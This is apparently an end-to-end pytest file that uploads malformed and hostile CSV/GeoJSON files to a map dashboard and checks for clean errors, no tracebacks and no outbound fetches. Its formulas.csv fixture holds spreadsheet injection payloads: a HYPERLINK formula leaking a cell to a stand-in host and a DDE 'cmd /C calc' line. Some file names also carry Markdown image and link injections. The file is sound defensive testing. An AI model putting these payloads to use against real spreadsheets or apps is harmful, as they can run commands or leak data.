"""Hostile uploads in a real browser (issue 10): each file gives a clear error or a loaded dataset, never a traceback.

The files are made here from the review's findings: a GeoJSON with a property key per feature, a CSV with
5,000 columns, malformed conflicts, a stray quote, dates at the edge of pandas' range, formulas, a file name
full of Markdown that names a URL on a local server (which must never be fetched), 20,000 incidents at one
point (a stack at the last zoom, listed in the table when clicked, with the mouse or the keyboard)…
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest

from tests.e2e.browser import TIMEOUT_S, app_server
from tests.e2e.test_browser import _map_frame, _poll

pytestmark = pytest.mark.browser

UPLOAD = '[data-testid="stFileUploaderDropzoneInput"]'
TOWN = (50.4501, 30.5234)


class _Recorder(http.server.BaseHTTPRequestHandler):
    """A local web server that notes every request: a file must never make the page fetch a URL it names."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_args) -> None:
        return None


@pytest.fixture(scope="module")
def recorder() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with app_server(tmp_path_factory.mktemp("uploads")) as base:
        yield base


def _feature(i: int, lat: float = 50.4, lon: float = 30.5, **properties) -> dict:
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [lon + i * 1e-4, lat]},
            "properties": {"id": f"f{i}", "date_start": "2023-05-01", "title": f"event {i}", **properties}}


def _geojson(features: list[dict]) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": features}).encode("utf-8")


def _csv(header: list[str], rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header, *rows])
    return out.getvalue().encode("utf-8")


def stacked_file() -> bytes:
    """20,000 incidents coded at one town's centre, and a few elsewhere."""
    rows = [[str(TOWN[0]), str(TOWN[1]), f"2023-0{1 + i % 9}-1{i % 10}", f"shelling {i}"] for i in range(20_000)]
    rows += [["49.99", "36.23", "2023-03-03", "elsewhere"]]
    return _csv(["latitude", "longitude", "date", "title"], rows)


def hostile_files(recorder: str) -> list[tuple[str, bytes, str]]:
    """(file name, content, what the page must show: 'error' or 'loaded')."""
    stray = _csv(["latitude", "longitude", "date", "title"],
                 [[f"{50 + i / 1000}", "30.5", "2023-01-01", f"event {i}"] for i in range(1_000)]).decode().splitlines()
    stray[1] = '50.0,30.5,2023-01-01,"stray quote'
    bad_conflicts = [1, None, {"field": 1}, {"field": "date"}, "x"]
    return [
        ("keys.geojson", _geojson([_feature(i, **{f"key_{i}": "x"}) for i in range(8_000)]), "error"),
        ("columns.csv", _csv(["latitude", "longitude", "date", *(f"c{i}" for i in range(5_000))],
                             [["50.4", "30.5", "2023-01-01", *["x"] * 5_000]]), "error"),
        ("conflicts.geojson", _geojson([_feature(0), *(_feature(i + 1, conflicts=[c]) for i, c in enumerate(bad_conflicts))]),
         "loaded"),
        ("stray-quote.csv", ("\n".join(stray) + "\n").encode("utf-8"), "loaded"),
        ("dates.csv", _csv(["latitude", "longitude", "date"],
                           [["50.4", "30.5", d] for d in ("2023-01-01", "9999-12-31", "0001-01-01", "2262-04", "1677-09")]),
         "loaded"),
        ("acled-2262.csv", _csv(["event_id_cnty", "event_date", "time_precision", "latitude", "longitude"],
                                [["A1", "2262-04-10", "2", "50.4", "30.5"], ["A2", "2023-01-05", "2", "50.4", "30.5"]]),
         "loaded"),
        ("formulas.csv", _csv(["latitude", "longitude", "date", "title", "notes"],
                              [["50.4", "30.5", "2023-01-01", '=HYPERLINK("http://x/"&A1,"Click")', "+cmd|' /C calc'!A0"],
                               ["50.4", "30.6", "2023-01-02", "@SUM(1+1)", "-2+3"]]), "loaded"),
        (f"![pixel]({recorder}/pixel.png) [link]({recorder}/link) www.example.org.csv",
         _csv(["latitude", "longitude", "date"], [["50.4", "30.5", "2023-01-01"]]), "loaded"),
        (f"twice-{recorder}.csv", _csv(["latitude", "longitude", "date", f"![a]({recorder}/h.png)", f"![a]({recorder}/h.png)"],
                                       [["50.4", "30.5", "2023-01-01", "1", "2"]]), "error"),
        ("bom.geojson", b"\xef\xbb\xbf" + _geojson([_feature(0)]), "loaded"),
        ("long-cell.csv", _csv(["latitude", "longitude", "date", "notes"], [["50.4", "30.5", "2023-01-01", "x" * 200_000]]),
         "loaded"),
        ("deep.json", b"[" * 100_000 + b"]" * 100_000, "error"),
        ("both-pairs.csv", _csv(["latitude", "longitude", "lat", "lon", "date"],
                                [["50.4", "30.5", "50.41", "30.51", "2023-01-01"]]), "loaded"),
        ("latin1.csv", "latitude,longitude,date,title\n50.4,30.5,2023-01-01,Café\n".encode("latin-1"), "error"),
        ("empty.csv", b"", "error"),
        ("stacked.csv", stacked_file(), "loaded"),
    ]


def _upload(page, name: str, content: bytes) -> None:
    mime = "application/geo+json" if name.endswith(("json", "geojson")) else "text/csv"
    page.locator(UPLOAD).set_input_files(files=[{"name": name, "mimeType": mime, "buffer": content}])


def _outcome(page, name: str) -> str | None:
    """'error' or 'loaded' once the page says which for this file, else None."""
    # Names are shown with invisible word joiners inside their URLs (so that they are not made links).
    alerts = " ".join(page.locator('[data-testid="stAlert"]').all_inner_texts()).replace("\u2060", "")
    if f"Could not load {name}" in alerts:
        return "error"
    sidebar = page.locator('[data-testid="stSidebar"]').inner_text().replace("\u2060", "")
    if f"Showing {name}:" in sidebar:
        return "loaded"
    return None


def test_every_hostile_upload_gives_an_error_or_a_dataset_never_a_traceback(server, new_page, recorder) -> None:
    page = new_page()
    page.goto(server + "/")
    _map_frame(page)
    for name, content, expected in hostile_files(recorder):
        _upload(page, name, content)
        outcome = _poll(lambda name=name: _outcome(page, name), lambda o: o is not None, timeout=90)
        if outcome is None:
            page.screenshot(path=str(Path(tempfile.gettempdir()) / "upload-timeout.png"))
        assert outcome == expected, (name, outcome, page.locator('[data-testid="stSidebar"]').inner_text()[:500])
        assert page.locator('[data-testid="stException"]').count() == 0, name
        assert "Traceback" not in page.locator("body").inner_text(), name
        # A name is shown as text: not an image, not a link (bare URLs included), wherever it appears.
        links = page.locator(f'img[src*="127.0.0.1:{recorder.rsplit(":", 1)[1]}"], a[href*="127.0.0.1"], '
                             'a[href*="example.org"]')
        assert links.count() == 0, (name, [links.nth(i).get_attribute("href") for i in range(links.count())])
    # No file made the page fetch what it names: not the file name's image, not a column name's.
    page.wait_for_timeout(500)
    assert _Recorder.seen == []


def test_a_stray_quote_is_counted_not_swallowed(server, new_page, recorder) -> None:
    page = new_page()
    page.goto(server + "/")
    _map_frame(page)
    name, content, _ = next(f for f in hostile_files(recorder) if f[0] == "stray-quote.csv")
    _upload(page, name, content)
    label = _poll(lambda: page.get_by_text("Data checks:").first.inner_text(), lambda t: t and "999 of 1,000" in t)
    assert "999 of 1,000 rows loaded, 1 rejected" in label


def test_the_popup_script_takes_a_malformed_record(server, new_page) -> None:
    # The server builds every record (dashboard/record.py); the script still lays out a broken one without throwing.
    page = new_page()
    page.goto(server + "/")
    frame = _map_frame(page)
    text = frame.evaluate("""() => SIM.popup({id: "x", title: "t", badges: [null, 1, {text: "b", tone: "type"}],
        facts: [null, "x", {label: "Date", value: "d"}, {label: "Places"}],
        disagreements: [null, 1, "x", {field: 1}, {field: "date", sides: "“a” (001) vs “b” (002)"}],
        sources: [null, 3, {id: "s", quote: "q"}], coding_note: null}).textContent""")
    assert "Disagreement on date: “a” (001) vs “b” (002)" in text and "Date: d" in text and "q" in text
    assert frame.evaluate("() => SIM.popup({id: 'y'}).textContent") == ""


def _stack_page(server: str, new_page, recorder: str):
    page = new_page()
    page.goto(server + "/")
    _map_frame(page)
    _upload(page, "stacked.csv", stacked_file())
    _poll(lambda: _outcome(page, "stacked.csv"), lambda o: o == "loaded", timeout=90)
    frame = _map_frame(page)
    frame.evaluate(f"() => {{ window.map.setView([{TOWN[0]}, {TOWN[1]}], 18, {{animate: false}}); }}")
    view = _poll(lambda: frame.evaluate("() => window.simView || null"), lambda v: bool(v and v.get("stacks")))
    assert view and view["stacks"] and view["points"] <= 400, view
    stack = frame.locator(".sim-stack").first
    stack.wait_for(timeout=TIMEOUT_S * 1000)
    assert "20k" in stack.inner_text() or "20,000" in stack.inner_text()
    return page, frame, stack


def _listed(page) -> str | None:
    captions = " ".join(page.locator('[data-testid="stCaptionContainer"]').all_inner_texts())
    return captions if "Listing the" in captions else None


def test_a_stack_at_the_last_zoom_lists_its_incidents_with_the_mouse_or_the_keyboard(server, new_page, recorder) -> None:
    page, frame, stack = _stack_page(server, new_page, recorder)
    box = stack.bounding_box()
    assert box
    page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    caption = _poll(lambda: _listed(page), bool)
    assert caption and "Listing the 20,000 incidents of the stack" in caption
    page.get_by_role("button", name="List all in view").click()
    assert _poll(lambda: _listed(page), lambda c: c is None) is None
    # The keyboard alone: focus the stack, press Enter.
    frame = _map_frame(page)
    icon = frame.locator(".sim-stack").first
    icon.wait_for(timeout=TIMEOUT_S * 1000)
    frame.locator(".sim-cluster-icon").first.focus()
    page.keyboard.press("Enter")
    caption = _poll(lambda: _listed(page), bool)
    assert caption and "Listing the 20,000 incidents of the stack" in caption


@pytest.mark.parametrize("width", [390])
def test_an_upload_error_fits_a_phone(server, new_page, recorder, width: int, tmp_path: Path) -> None:
    page = new_page({"width": width, "height": 844})
    page.goto(server + "/")
    # The page settled first, as in the other tests here: a file given while the first runs redraw the sidebar
    # was once never sent (a CI run: no run followed the upload in 90 s).
    _map_frame(page)
    page.locator('[data-testid="stSidebarCollapsedControl"] button, [data-testid="stExpandSidebarButton"]').first.click()
    _upload(page, "columns.csv", hostile_files(recorder)[1][1])
    assert _poll(lambda: _outcome(page, "columns.csv"), lambda o: o == "error", timeout=90) == "error"
    alert = page.locator('[data-testid="stAlert"]').first
    box = alert.bounding_box()
    assert box and box["x"] >= 0 and box["x"] + box["width"] <= width
    page.screenshot(path=str(tmp_path / "phone-upload-error.png"))
